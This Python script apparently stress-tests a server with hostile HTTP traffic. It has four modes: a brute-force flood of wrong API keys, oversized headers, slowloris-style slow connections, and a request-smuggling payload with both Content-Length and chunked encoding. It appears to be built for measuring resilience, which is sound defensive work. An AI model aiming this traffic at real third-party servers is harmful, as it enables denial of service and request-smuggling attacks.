"""Sends what no caller should, at a fixed pace, until it is ended: `python send_hostile.py KIND HOST PORT PATH`.

keys: 10,000 wrong keys a second, over fifty connections. heads: 1,000 heads a second that are over the limit, on
connections of their own. drips: a thousand connections that send a byte now and then. smuggle: 1,000 heads a second
whose bounds are unclear.
"""

from __future__ import annotations

import os
import socket
import sys
import time
from collections.abc import Iterator
from contextlib import suppress
from itertools import count

NICE = 19
"""The load beside it on its core goes first: it is the server that is measured."""
STEP_S = 0.02
CONNECTIONS = 50
KEYS_PER_S = 10_000
HEADS_PER_S = 1_000
DRIPPING = 1_000


def main() -> None:
    """Send, a step of 20 ms after the other; a line says that it has begun."""
    os.nice(NICE)
    kind, host, port, path = sys.argv[1:]
    address = host, int(port)
    steps = {"keys": keys, "heads": heads, "drips": drips, "smuggle": smuggle}[kind](address, path)
    next(steps)
    print("sending", flush=True)
    due_s = time.monotonic()
    for _ in steps:
        due_s = max(due_s + STEP_S, time.monotonic() - STEP_S)
        time.sleep(max(due_s - time.monotonic(), 0))


def keys(address: tuple[str, int], path: str) -> Iterator[None]:
    """Give a step each time: wrong keys, each of them another, on a connection after the other."""
    socks = [socket.create_connection(address) for _ in range(CONNECTIONS)]
    per_step = round(KEYS_PER_S * STEP_S)
    numbers = count()
    for sock in socks:
        sock.setblocking(False)
    while True:
        for place in range(CONNECTIONS):
            sock = socks[place]
            requests = b"".join(
                b"POST %b HTTP/1.1\r\nHost: a\r\nX-API-Key: tr_%012x_%b\r\nContent-Length: 2\r\n\r\n{}"
                % (path.encode(), next(numbers), b"A" * 43)
                for _ in range(per_step // CONNECTIONS)
            )
            with suppress(OSError):
                sock.send(requests)
            with suppress(OSError):
                sock.recv(1 << 20)
        yield


def each_on_its_own(address: tuple[str, int], data: bytes) -> Iterator[None]:
    """Give a step each time: some bytes, on new connections."""
    while True:
        socks = [socket.create_connection(address) for _ in range(round(HEADS_PER_S * STEP_S))]
        for sock in socks:
            with suppress(OSError):
                sock.sendall(data)
        yield
        for sock in socks:
            sock.close()


def heads(address: tuple[str, int], path: str) -> Iterator[None]:
    """Send heads of twenty thousand bytes."""
    lines = b"".join(b"X-%d: %b\r\n" % (number, b"a" * 50) for number in range(330))
    return each_on_its_own(address, b"POST %b HTTP/1.1\r\nHost: a\r\n%b\r\n" % (path.encode(), lines))


def smuggle(address: tuple[str, int], path: str) -> Iterator[None]:
    """Send a length, and chunks."""
    top = (
        b"POST %b HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
        % path.encode()
    )
    return each_on_its_own(address, top)


def drips(address: tuple[str, int], path: str) -> Iterator[None]:
    """Give a step each time: a byte on some of many connections, each about once a second; one that ends is renewed."""
    begin = b"POST %b HTTP/1.1\r\nHost: a\r\nX: " % path.encode()

    def opened() -> socket.socket:
        sock = socket.create_connection(address)
        sock.sendall(begin)
        return sock

    socks = [opened() for _ in range(DRIPPING)]
    share = round(DRIPPING * STEP_S)
    for turn in count():
        yield
        for place in range(turn * share % DRIPPING, turn * share % DRIPPING + share):
            try:
                socks[place].send(b"a")
            except OSError:
                socks[place].close()
                socks[place] = opened()


if __name__ == "__main__":
    main()
